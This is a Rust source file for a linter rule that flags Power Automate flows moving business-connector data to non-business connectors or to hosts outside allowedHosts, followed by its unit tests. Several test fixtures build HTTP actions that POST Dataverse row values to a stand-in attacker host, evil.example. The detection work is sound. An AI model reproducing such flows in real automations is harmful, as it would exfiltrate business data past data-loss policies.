//! What a business connector gives goes to one that is not, or to a host that the project does not allow.

use analysis::policies::Policies;
use analysis::taint::Chain;
use model::flow::data_paths::SourceKind;
use model::policies::ConnectorGroup;
use model::{FileId, Profile};
use rustc_hash::FxHashMap;
use syntax::Span;

use crate::context::SolutionContext;
use crate::finding::{Confidence, Finding, Findings, Severity};
use crate::rule::{Category, Check, FixKind, declare_rule};
use crate::ways::with_chain;

declare_rule! {
    /// # What it finds
    ///
    /// A value that a connector of the business group gave and that a step hands to a connector of the non-business group, or
    /// sends to a host outside of `allowedHosts`. The value is followed through expressions, variables, Compose, Parse JSON,
    /// loops and child flows, and the finding tells its way; a flow gets one finding for each pair of connectors. Groups come from `dataPolicies` in `flowsentry.jsonc`: exported
    /// policies or a policy written there. Without them the rule is silent.
    ///
    /// # Why it matters
    ///
    /// A data policy looks at which connectors stand in one flow. A child flow, or a request to an address, takes the data over
    /// the boundary that the policy draws; and where the policy is not yet in force, nothing stops it.
    ///
    /// # How to fix
    ///
    /// Keep the data within the group: use a connector of the business group for the target, or send only what is no business
    /// data. Where the way is meant, put the connector into the business group, or add the host to `allowedHosts`.
    ///
    /// # Example
    ///
    /// `flowsentry.jsonc`:
    ///
    /// ```json
    /// { "dataPolicies": [ { "name": "Contoso", "business": [ "shared_commondataserviceforapps" ], "nonBusiness": [ "shared_twitter" ] } ] }
    /// ```
    ///
    /// A flow:
    ///
    /// ```json
    /// "Post_a_tweet": { "inputs": { "parameters": { "tweetText": "@{body('Get_a_row')?['name']}" } } }
    /// ```
    ///
    /// # References
    ///
    /// - Microsoft Learn: [Data policies](https://learn.microsoft.com/power-platform/admin/wp-data-loss-prevention)
    static RULE = {
        id: "cross-boundary-data-flow",
        summary: "business data goes to a connector that is not in its group, or to a host that is not allowed",
        category: Category::Exfiltration,
        severity: Severity::Warning,
        confidence: Confidence::Medium,
        profile: Profile::Recommended,
        fix: FixKind::None,
        checks: &[Check::Ways(check)],
    };
}

fn check(context: &SolutionContext<'_>, findings: &mut Findings) {
    // One finding for each way over the boundary in a flow, with the first step that takes it.
    let mut ways: Vec<Crossing<'_>> = Vec::new();
    let mut known: FxHashMap<(FileId, &str, &str, Option<&str>), Option<usize>> = FxHashMap::default();
    for chain in context.chains() {
        let (SourceKind::Connector(from), Some((file, _))) = (&chain.source.kind, chain.parts.last()) else {
            continue;
        };
        let used = chain.used;
        let way = known
            .entry((*file, &**from, &*used.connector, used.host.as_deref()))
            .or_insert_with(|| {
                let boundary = boundary(context, chain, from, *file)?;
                ways.push(Crossing {
                    chain,
                    from,
                    file: *file,
                    boundary,
                    steps: Vec::new(),
                });
                Some(ways.len() - 1)
            });
        if let Some(way) = way.and_then(|at| ways.get_mut(at))
            && !way.steps.contains(&&*used.path)
        {
            way.steps.push(&used.path);
        }
    }
    findings.found.extend(ways.iter().map(finding));
}

/// Data of a connector that a flow takes over a boundary.
struct Crossing<'a> {
    chain: &'a Chain<'a>,
    from: &'a str,
    file: FileId,
    boundary: Boundary,
    /// Paths of the steps that do.
    steps: Vec<&'a str>,
}

/// What keeps two sides apart.
enum Boundary {
    /// A policy: its name, where it lists the target, the target.
    Policy(String, FileId, Span, String),
    /// The hosts that are allowed: the host, and where the source is said to be business.
    Host(String, FileId, Span),
}

fn boundary(context: &SolutionContext<'_>, chain: &Chain<'_>, from: &str, file: FileId) -> Option<Boundary> {
    let workspace = context.workspace;
    let path = &workspace.file(file).path;
    let policies = Policies::of(workspace, path);
    let to = &*chain.used.connector;
    if policies.is_empty() || to.is_empty() {
        return None;
    }
    let allowed = chain.used.host.as_deref().and_then(|host| {
        let (_, configuration) = workspace.configuration_of(path)?;
        configuration.allows_host(host)
    });
    let leaves = |one: ConnectorGroup, other: ConnectorGroup| {
        one == ConnectorGroup::Business && other == ConnectorGroup::NonBusiness
    };
    let apart = policies
        .separating(from, to)
        .filter(|(one, other)| leaves(one.group, other.group));
    if let Some((_, other)) = apart.filter(|_| allowed != Some(true)) {
        return Some(Boundary::Policy(
            other.policy.name.value.clone(),
            other.file,
            other.span,
            title(to),
        ));
    }
    let host = chain.used.host.as_deref().filter(|_| allowed == Some(false))?;
    let placed = policies
        .group(from)
        .filter(|placed| placed.group == ConnectorGroup::Business)?;
    Some(Boundary::Host(host.to_owned(), placed.file, placed.span))
}

fn title(connector: &str) -> String {
    match *connector == *model::flow::HTTP {
        true => "HTTP".to_owned(),
        false => analysis::connectors::title(connector),
    }
}

fn finding(way: &Crossing<'_>) -> Finding {
    let used = way.chain.used;
    let step = match way.steps.len() {
        0 | 1 => format!("`{}`", used.title),
        2 => format!("`{}` and one more step", used.title),
        many => format!("`{}` and {} more steps", used.title, many - 1),
    };
    let source = title(way.from);
    let given = format!("What {source} gives is business data and goes");
    let (message, (file, span), says) = match &way.boundary {
        Boundary::Policy(policy, file, span, target) => (
            format!(
                "{given} to {target} with {step}, which the data policy `{policy}` keeps apart from it. Use a connector of the business group, or send no business data."
            ),
            (*file, *span),
            format!("{target} is not in the business group"),
        ),
        Boundary::Host(host, file, span) => (
            format!(
                "{given} with {step} to `{host}`, which is not among the project's `allowedHosts`. Send it elsewhere, or add the host there if it is meant."
            ),
            (*file, *span),
            format!("{source} is in the business group"),
        ),
    };
    let subject = format!(
        "{} {} {}",
        way.from,
        used.connector,
        used.host.as_deref().unwrap_or_default()
    );
    let finding =
        Finding::new(&RULE, way.file, used.span, subject.trim_end(), message).action(Some(used.path.to_string()));
    with_chain(finding, way.chain).related(file, span, says)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::testing::{Found, Sample};

    const CHILD: &str = "00000000-0000-0000-0000-00000000000c";
    const PLAN: &str = r#"{ "dataPolicies": [ { "name": "Contoso", "business": [ "shared_commondataserviceforapps", "shared_office365" ], "nonBusiness": [ "shared_twitter", "builtin:http" ] } ], "allowedHosts": [ "api.contoso.com" ] }"#;

    fn operation(name: &str, connector: &str, id: &str, parameters: &str) -> String {
        format!(
            r#""{name}":{{"runAfter":{{}},"type":"OpenApiConnection","inputs":{{"host":{{"apiId":"/providers/Microsoft.PowerApps/apis/{connector}","operationId":"{id}","connectionName":"c"}},"parameters":{{{parameters}}}}}}}"#
        )
    }

    fn row() -> String {
        operation(
            "Get_row",
            "shared_commondataserviceforapps",
            "GetItem",
            r#""entityName":"accounts""#,
        )
    }

    fn tweet(text: &str) -> String {
        operation(
            "Post",
            "shared_twitter",
            "UserTweet",
            &format!(r#""tweetText":"{text}""#),
        )
    }

    fn http(uri: &str, body: &str) -> String {
        format!(
            r#""Call":{{"runAfter":{{}},"type":"Http","inputs":{{"method":"POST","uri":"{uri}","body":"{body}"}}}}"#
        )
    }

    fn sample(actions: &str) -> Sample {
        Sample::actions(&format!("{},{actions}", row())).with("/s/flowsentry.jsonc", PLAN)
    }

    fn of(actions: &str) -> Vec<Found> {
        sample(actions).of(RULE.id)
    }

    const NAME: &str = "@{body('Get_row')?['name']}";

    #[test]
    fn data_that_crosses() {
        for actions in [
            tweet(NAME),
            tweet("@outputs('Get_row')?['body/name']"),
            tweet("@string(int(body('Get_row')?['number']))"),
            tweet("@base64(body('Get_row')?['name'])"),
            format!(
                r#""C":{{"runAfter":{{}},"type":"Compose","inputs":{{"a":"{NAME}"}}}},{}"#,
                tweet("@outputs('C')?['a']")
            ),
            format!(
                r#""P":{{"runAfter":{{}},"type":"ParseJson","inputs":{{"content":"@body('Get_row')","schema":{{}}}}}},{}"#,
                tweet("@body('P')?['name']")
            ),
            format!(
                r#""V":{{"runAfter":{{}},"type":"InitializeVariable","inputs":{{"variables":[{{"name":"v","type":"string","value":"{NAME}"}}]}}}},{}"#,
                tweet("@variables('v')")
            ),
            format!(
                r#""Each":{{"runAfter":{{}},"type":"Foreach","foreach":"@body('Get_row')?['value']","actions":{{{}}}}}"#,
                tweet("@items('Each')?['name']")
            ),
            http("https://evil.example/x", NAME),
            http("https://evil.example/@{body('Get_row')?['name']}", "x"),
            http("@{variables('base')}/x", NAME),
        ] {
            let found = of(&actions);
            assert_eq!(found.len(), 1, "{actions}: {found:#?}");
            assert_eq!(found[0].finding.severity, Severity::Warning);
        }
        let found = of(&tweet(NAME));
        let steps: Vec<&str> = found[0]
            .finding
            .related
            .iter()
            .map(|step| step.message.as_str())
            .collect();
        assert_eq!(
            steps[..2],
            ["`Get row` reads it from Microsoft Dataverse", "used by `Post`"]
        );
        assert_eq!(steps.len(), 3);
    }

    #[test]
    fn steps_that_do_the_same_are_one_finding() {
        let more = |name: &str, text: &str| tweet(text).replace("\"Post\"", &format!("\"{name}\""));
        let found = of(&format!(
            "{},{},{}",
            tweet(NAME),
            more("Again", NAME),
            more("Third", "fixed")
        ));
        assert_eq!(found.len(), 1);
        assert!(
            found[0].finding.message.contains("`Post` and one more step"),
            "{}",
            found[0].finding.message
        );
        assert_eq!(
            of(&format!("{},{}", tweet(NAME), http("https://evil.example/x", NAME))).len(),
            2
        );
    }

    #[test]
    fn data_that_stays() {
        for actions in [
            tweet("fixed"),
            tweet("@length(body('Get_row')?['name'])"),
            tweet("@if(empty(body('Get_row')?['name']), 'a', 'b')"),
            tweet("@body('Other')?['name']"),
            tweet("@triggerBody()?['text']"),
            operation(
                "Mail",
                "shared_office365",
                "SendEmailV2",
                &format!(r#""emailMessage/Body":"{NAME}""#),
            ),
            operation("Post", "shared_unheardof", "Post", &format!(r#""x":"{NAME}""#)),
            http("https://api.contoso.com/x", NAME),
            format!(
                r#""C":{{"runAfter":{{}},"type":"Compose","inputs":{{"a":"{NAME}","b":"x"}}}},{}"#,
                tweet("@outputs('C')?['b']")
            ),
            format!(
                r#""If":{{"runAfter":{{}},"type":"If","expression":{{"equals":["{NAME}","a"]}},"actions":{{{}}}}}"#,
                tweet("fixed")
            ),
            // From the other group into business is no leak.
            format!(
                "{},{}",
                operation("Search", "shared_twitter", "SearchTweet", ""),
                operation(
                    "Add",
                    "shared_commondataserviceforapps",
                    "CreateRecord",
                    r#""entityName":"as","item/x":"@body('Search')""#
                )
            ),
        ] {
            assert_eq!(of(&actions).len(), 0, "{actions}");
        }
        // Nobody said what is business.
        let without = Sample::actions(&format!("{},{}", row(), tweet(NAME)));
        assert_eq!(without.marked(RULE.id), [""; 0]);
        let hosts = without.with("/s/flowsentry.jsonc", r#"{ "allowedHosts": ["a.example"] }"#);
        assert_eq!(hosts.marked(RULE.id), [""; 0]);
    }

    #[test]
    fn hosts_and_exported_policies() {
        let export = r#"{"value":[{"displayName":"Default","connectorGroups":[{"classification":"Confidential","connectors":[{"id":"/providers/Microsoft.PowerApps/apis/shared_commondataserviceforapps"}]},{"classification":"General","connectors":[{"id":"/providers/Microsoft.PowerApps/apis/shared_twitter"}]}]}]}"#;
        let with = |actions: &str, plan: &str| {
            sample(actions)
                .with("/s/flowsentry.jsonc", plan)
                .with("/s/policies.json", export)
                .of(RULE.id)
        };
        let plan = r#"{ "dataPolicies": [ "policies.json" ], "allowedHosts": [ "api.contoso.com" ] }"#;
        let found = with(&tweet(NAME), plan);
        assert_eq!(found.len(), 1);
        assert!(
            found[0].finding.message.contains("`Default`"),
            "{}",
            found[0].finding.message
        );
        // The policy says nothing of HTTP, and the project does of hosts.
        assert_eq!(with(&http("https://evil.example/x", NAME), plan).len(), 1);
        assert_eq!(with(&http("https://api.contoso.com/x", NAME), plan).len(), 0);
        assert_eq!(
            with(
                &http("https://evil.example/x", NAME),
                r#"{ "dataPolicies": [ "policies.json" ] }"#
            )
            .len(),
            0
        );
    }

    #[test]
    fn children_take_it_across() {
        let call = |value: &str| {
            format!(
                r#""Run":{{"runAfter":{{}},"type":"Workflow","inputs":{{"host":{{"workflowReferenceName":"{CHILD}"}},"body":{{"text":"{value}","text_1":"x"}}}}}}"#
            )
        };
        let with = |value: &str, actions: &str| {
            let child = format!(
                r#"{{"properties":{{"connectionReferences":{{}},"definition":{{"triggers":{{"manual":{{"type":"Request","kind":"Button","inputs":{{}}}}}},"actions":{{{actions}}}}}}},"schemaVersion":"1.0.0.0"}}"#
            );
            sample(&call(value))
                .with(&format!("/s/Workflows/Child-{CHILD}.json"), child)
                .of(RULE.id)
        };
        let found = with(NAME, &tweet("@triggerBody()?['text']"));
        assert_eq!(found.len(), 1);
        assert!(found[0].path.contains("Child"));
        assert_eq!(found[0].finding.related.len(), 5);
        assert_eq!(with(NAME, &tweet("@triggerBody()?['text_1']")).len(), 0);
        assert_eq!(with("fixed", &tweet("@triggerBody()?['text']")).len(), 0);
    }

    #[test]
    fn data_by_other_ways() {
        let kept = format!(r#""C":{{"runAfter":{{}},"type":"Compose","inputs":{{"a":{{"b":"{NAME}","c":"fixed"}}}}}}"#);
        let with = |text: &str| of(&format!("{kept},{}", tweet(text))).len();
        assert_eq!(with("@outputs('C')?['a']?['b']"), 1);
        assert_eq!(with("@{outputs('C')['a/b']}"), 1);
        assert_eq!(with("@outputs('C')?['a']?['c']"), 0);
        let scope = |text: &str| {
            let actions = format!(
                r#""Try":{{"runAfter":{{}},"type":"Scope","actions":{{{}}}}},{}"#,
                row(),
                tweet(text)
            );
            let sample = Sample::actions(&actions).with("/s/flowsentry.jsonc", PLAN);
            sample.of(RULE.id).len()
        };
        assert_eq!(scope("@{result('Try')[0]?['outputs']?['body']}"), 1);
        assert_eq!(scope("@{result('Try')[0]?['error']?['message']}"), 0);
        assert_eq!(scope("@{result('Try')[0]?['name']}"), 0);
        let list = r#""V":{"runAfter":{},"type":"InitializeVariable","inputs":{"variables":[{"name":"v","type":"array"}]}},"Add":{"runAfter":{"V":["Succeeded"]},"type":"AppendToArrayVariable","inputs":{"name":"v","value":{"n":"@body('Get_row')?['name']","k":"x"}}}"#;
        let with = |text: &str| {
            let post = tweet(text).replace(r#""runAfter":{}"#, r#""runAfter":{"Add":["Succeeded"]}"#);
            of(&format!("{list},{post}")).len()
        };
        assert_eq!(with("@{join(variables('v'), ',')}"), 1);
        assert_eq!(with("@{variables('v')[0]?['k']}"), 0);
    }
}
